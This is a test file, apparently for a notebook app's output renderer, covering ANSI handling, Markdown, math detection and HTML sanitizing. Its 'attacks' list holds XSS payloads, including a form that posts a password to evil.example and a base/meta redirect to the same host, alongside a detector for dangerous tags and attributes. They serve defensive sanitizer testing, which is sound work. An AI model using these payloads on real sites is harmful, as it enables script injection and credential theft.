import { describe, expect, test } from "vitest";
import { ansiToNodes, linkPlaces, overwrite, places, plain } from "../src/outputs/ansi";
import { wrappedLines } from "../src/outputs/height";
import { mathAt } from "../src/outputs/math";
import { headingNodes, headings, renderMarkdown } from "../src/outputs/markdown";
import { chooseMime, isEmpty } from "../src/outputs/mime";
import { withTask } from "../src/notebook/tasks";
import { cleanRich } from "../src/outputs/sanitize";

const html = (f: DocumentFragment) => {
  const d = document.createElement("div");
  d.append(f);
  return d;
};

describe("text of terminals", () => {
  test.each([
    ["plain", "plain"],
    ["10%\r20%\r30%\n", "30%\n"],
    ["long line\rshort", "shortline"],
    ["long line\r\x1b[Kshort", "short"],
    ["abc\b\bX", "aXc"],
    ["dos\r\nlines\r\n", "dos\nlines\n"],
    ["\x1b[31mred\x1b[0m\rblue", "blue"],
  ])("%j is shown as %j", (text, want) => {
    expect(plain(overwrite(text))).toBe(want);
  });

  test("colours become classes, all else is escaped", () => {
    const d = html(ansiToNodes("\x1b[1;31m<b>\x1b[0m & <img src=x onerror=1>"));
    expect(d.querySelector("b, img")).toBeNull();
    expect(d.querySelector(".ansi-red-fg")!.textContent).toBe("<b>");
    expect(d.textContent).toBe("<b> & <img src=x onerror=1>");
  });

  test("inverse is dark on light, until it ends", () => {
    const d = html(ansiToNodes("a\x1b[7mb\x1b[27mc"));
    expect(d.querySelector(".ansi-white-bg")?.textContent).toBe("b");
    expect(d.textContent).toBe("abc");
  });

  test("links of terminals lead nowhere but to the web", () => {
    const d = html(ansiToNodes("\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x1b]8;;https://go.dev\x07y\x1b]8;;\x07"));
    expect([...d.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.target, a.rel])).toEqual([["https://go.dev", "_blank", "noopener noreferrer"]]);
  });

  test("places are found, and become links", () => {
    expect(places("\x1b[1mIn[3]:2:7\x1b[0m: undefined: x, see In[12] line 4")).toEqual([
      { count: 3, line: 2, column: 7 },
      { count: 12, line: 4, column: 1 },
    ]);
    const d = html(ansiToNodes("at In[3]:2:7: <b>"));
    linkPlaces(d);
    const a = d.querySelector<HTMLElement>("a.place")!;
    expect(a.textContent).toBe("In[3]:2:7");
    expect({ ...a.dataset }).toEqual({ count: "3", line: "2", column: "7" });
    expect(d.textContent).toBe("at In[3]:2:7: <b>");
  });
});

/** Says what in a tree could run, ask, or lead out of it. */
function dangers(root: ParentNode): string[] {
  const out: string[] = [];
  for (const el of root.querySelectorAll("*")) {
    const name = el.nodeName.toLowerCase();
    if (/^(script|iframe|frame|object|embed|form|input|button|textarea|select|base|meta|link|dialog|template|portal|foreignobject)$/.test(name)) out.push(name);
    for (const a of el.attributes) {
      if (/^on/i.test(a.name)) out.push(`${name} ${a.name}`);
      if (/^\s*(javascript|vbscript|data:text)/i.test(a.value.replace(/[\u0000-\u0020]/g, ""))) out.push(`${name} ${a.name}=${a.value}`);
      if (/^(srcdoc|formaction|autofocus|contenteditable|popover|is|slot)$/i.test(a.name)) out.push(`${name} ${a.name}`);
    }
  }
  return out;
}

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  "<a href=&#106;avascript:alert(1)>x</a>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<form action=//evil.example><input name=password><button>ok</button></form>",
  "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=//evil.example>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>",
  "<template><img src=x onerror=alert(1)></template>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<x-y is=x onclick=alert(1)>z</x-y>",
];

test("wrapped lines count as many, empty ones none", () => {
  expect(wrappedLines("", 10, 99)).toBe(0);
  expect(wrappedLines("# one\n\n0123456789x\nlast", 10, 99)).toBe(4);
  expect(wrappedLines("x".repeat(1_000), 10, 7)).toBe(7);
});

describe("hostile outputs", () => {
  test.each(attacks)("%s", (attack) => {
    expect(dangers(html(cleanRich(`<p>kept</p>${attack}`).content))).toEqual([]);
    expect(dangers(html(renderMarkdown(`kept\n\n${attack}\n\n- ${attack}`)))).toEqual([]);
  });

  test("what had script says so, and what had none does not", () => {
    for (const a of ["<b>x</b><script>1</script>", "<p onclick=x>y</p>", "<iframe src=/></iframe>"]) expect(cleanRich(a).hadScript).toBe(true);
    for (const a of ["<b>x</b>", "<style>b{color:red}</style><b>x</b>", "<table><tr><td>1</td></tr></table>"]) expect(cleanRich(a).hadScript).toBe(false);
  });

  test("figures keep their style and their pictures", () => {
    const d = html(cleanRich('<div class="fanout-figure"><style>.a{color:red}</style><img class="a" alt="x" style="max-width:100%" src="data:image/svg+xml;base64,AAAA"><img hidden src="data:image/png;base64,AAAA"></div>').content);
    expect(d.querySelector("style")?.textContent).toBe(".a{color:red}");
    expect([...d.querySelectorAll("img")].map((i) => [i.getAttribute("style"), i.hidden, i.src.slice(0, 15)])).toEqual([
      ["max-width:100%", false, "data:image/svg+"],
      [null, true, "data:image/png;"],
    ]);
  });

  test("Markdown has no style of its own, and its ids clobber nothing", () => {
    const d = html(renderMarkdown('<style>body{display:none}</style><a id="app" name="location">x</a>'));
    expect(d.querySelector("style")).toBeNull();
    expect(d.querySelector("a")!.id).not.toBe("app");
  });

  test("links open elsewhere, without a way back", () => {
    const a = html(renderMarkdown("[x](https://go.dev)")).querySelector("a")!;
    expect([a.target, a.rel]).toEqual(["_blank", "noopener noreferrer"]);
  });

  test.each([
    ["of SVG", `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://go.dev"><text>x</text></a></svg>`],
    ["of SVG without a name space", `<svg><a href="https://go.dev"><text>x</text></a></svg>`],
    ["of a map of a picture", `<map name="m"><area href="https://go.dev" shape="default"></map>`],
  ])("so do those %s", (_, text) => {
    const a = html(cleanRich(text).content).querySelector("a, area")!;
    expect([a.getAttribute("target"), a.getAttribute("rel")]).toEqual(["_blank", "noopener noreferrer"]);
  });
});

describe("Markdown", () => {
  test("finds mathematics, and leaves money alone", () => {
    const found = (s: string) => [...html(renderMarkdown(s)).querySelectorAll(".math")].map((m) => [m.textContent, m.classList.contains("math-display")]);
    expect(found("so $e^{i\\pi}$ is")).toEqual([["e^{i\\pi}", false]]);
    expect(found("$$\nx < y\n$$")).toEqual([["x < y", true]]);
    expect(found("\\begin{align}a&=b\\end{align}")).toEqual([["\\begin{align}a&=b\\tag{1}\\end{align}", true]]);
    expect(found("\\(a_1\\) and \\[b\\]")).toEqual([["a_1", false], ["b", true]]);
    expect(found("it costs $5 and $6")).toEqual([]);
    expect(found("`$x$`")).toEqual([]);
    expect(found("a $x_1 * y_2$ b *c*")).toEqual([["x_1 * y_2", false]]);
    expect(found("a set $\\{1\\}$ and a thin space $a\\,$")).toEqual([["\\{1\\}", false], ["a\\,", false]]);
  });

  test.each([
    ["$6, code `$x$`", ["$x$"], []],
    ["$6, code ``a ` $x$`` and $y$", ["a ` $x$"], ["y"]],
    ["\\(6, code `\\(x\\)`", ["\\(x\\)"], []],
    ["$$6, code `$$x$$`", ["$$x$$"], []],
    ["$a `$` b$", [], ["a `$` b"]],
    ["$\\text{``a''}$ and $\\text{``b''}$", [], ["\\text{``a''}", "\\text{``b''}"]],
    ["$\\text{``quoted''}$ `$`", ["$"], ["\\text{``quoted''}"]],
    ["$\\`a$ and $\\`b$", [], ["\\`a", "\\`b"]],
    ["$a$ ` $b$", [], ["a", "b"]],
  ])("code binds tighter than formulas: %s", (source, code, formulas) => {
    const d = html(renderMarkdown(source));
    const of = (selector: string) => [...d.querySelectorAll(selector)].map((el) => el.textContent);
    expect([of("code"), of(".math")]).toEqual([code, formulas]);
  });

  test("a formula ends where it ends", () => {
    expect(mathAt("$a$ b", 0)).toEqual({ tex: "a", display: false, end: 3 });
    expect(mathAt("$ a$", 0)).toBeNull();
    expect(mathAt("$a", 0)).toBeNull();
    expect(mathAt("$$a$$", 0)).toEqual({ tex: "a", display: true, end: 5 });
  });

  test("lists its headings, and none of code", () => {
    expect(headings("# One\n\n```\n# not\n```\n\n## Two `x` $y^2$\n\nThree\n=====")).toEqual([
      { level: 1, parts: [{ kind: "text", text: "One" }] },
      { level: 2, parts: [{ kind: "text", text: "Two " }, { kind: "code", text: "x" }, { kind: "text", text: " " }, { kind: "math", text: "y^2" }] },
      { level: 1, parts: [{ kind: "text", text: "Three" }] },
    ]);
  });

  test("marks its headings, and none that are HTML", () => {
    const d = html(renderMarkdown("# One\n\n<h2>not Markdown</h2>\n\n## Two"));
    expect([...d.querySelectorAll("[data-heading]")].map((h) => h.textContent)).toEqual(["One", "Two"]);
  });

  test("shows headings in a list as they are", async () => {
    const d = html(headingNodes(headings("# Of `x` and $y^2$")[0]!.parts));
    expect(d.querySelector("code")!.textContent).toBe("x");
    await expect.poll(() => d.querySelector(".katex")).not.toBeNull();
    expect(html(headingNodes([{ kind: "text", text: "<b>x</b>" }])).querySelector("b")).toBeNull();
  });

  test("finds pictures beside the notebook, and attached ones", () => {
    const src = (md: string) => html(renderMarkdown(md, { folder: "a b", attachments: { "p.png": { "image/png": "AAAA" } } })).querySelector("img")!.getAttribute("src");
    expect(src("![x](img/y.png)")).toBe("/files/a%20b/img/y.png");
    expect(src("![x](../../../y.png)")).toBeNull();
    expect(src("![x](attachment:p.png)")).toBe("data:image/png;base64,AAAA");
  });
});

describe("which form is shown", () => {
  test("the richest that has something", () => {
    expect(chooseMime({ "text/plain": "x", "text/html": "<b>x</b>" })).toBe("text/html");
    expect(chooseMime({ "text/plain": "x", "text/html": "" })).toBe("text/plain");
    expect(chooseMime({ "text/plain": "x", "image/png": "A", "image/svg+xml": "<svg/>" })).toBe("image/svg+xml");
    expect(chooseMime({ "application/x-strange": "x" })).toBeUndefined();
  });
  test("a display that was cleared shows nothing", () => {
    expect(isEmpty({ output_type: "display_data", data: { "text/plain": "", "text/html": "" } })).toBe(true);
    expect(isEmpty({ output_type: "display_data", data: { "text/plain": " " } })).toBe(false);
    expect(isEmpty({ output_type: "error", ename: "E", evalue: "" })).toBe(false);
  });
});

describe("what Markdown may say beyond text", () => {
  test("items of lists may be tasks", () => {
    const d = html(renderMarkdown("- [ ] open\n- [x] *closed*\n- [y] no task\n- plain\n\n1. [X] numbered\n\n2. with paragraphs"));
    expect([...d.querySelectorAll("li")].map((li) => [li.querySelector("input")?.checked, li.textContent!.trim()])).toEqual([
      [false, "open"],
      [true, "closed"],
      [undefined, "[y] no task"],
      [undefined, "plain"],
      [true, "numbered"],
      [undefined, "with paragraphs"],
    ]);
    expect([...d.querySelectorAll("input")].every((i) => i.type === "checkbox" && i.disabled)).toBe(true);
  });

  test("a task that is ticked says on which line it stands", () => {
    const ticked: [number, boolean][] = [];
    const d = html(renderMarkdown("words\n\n- [ ] open\n  - [x] below\n- plain\n\n<ul><li data-line=\"0\">[ ] raw</li></ul>", { onTask: (line, done) => ticked.push([line, done]) }));
    const boxes = [...d.querySelectorAll("input")];
    expect(boxes.map((b) => [b.getAttribute("aria-label"), b.disabled])).toEqual([["open", false], ["below", false], ["raw", false]]);
    document.body.append(d); // elsewhere a click changes nothing
    for (const b of boxes) b.click();
    d.remove();
    expect(ticked.slice(0, 2)).toEqual([[2, true], [3, false]]);
    expect(withTask("- [ ] open", true)).toBe("- [x] open");
    expect(withTask("> 2. [X] a [ ] b", false)).toBe("> 2. [ ] a [ ] b");
    expect(withTask("words [ ]", true)).toBeNull(); // what raw HTML claims to be one
  });

  test.each(["https://a.example/b.png", "//a.example/b.png", "http://a.example/b.png"])("a picture of %s is told of in its place", (address) => {
    for (const d of [html(renderMarkdown(`![a chart](${address})`)), html(cleanRich(`<img alt="a chart" src="${address}">`).content)]) {
      expect(d.querySelector("img")).toBeNull();
      expect(d.textContent).toContain("a chart — not loaded: images from elsewhere are blocked");
    }
  });

  test("a picture beside the notebook is loaded", () => {
    expect(html(renderMarkdown("![x](a/b.png)", { folder: "f" })).querySelector("img")!.getAttribute("src")).toBe("/files/f/a/b.png");
  });
});
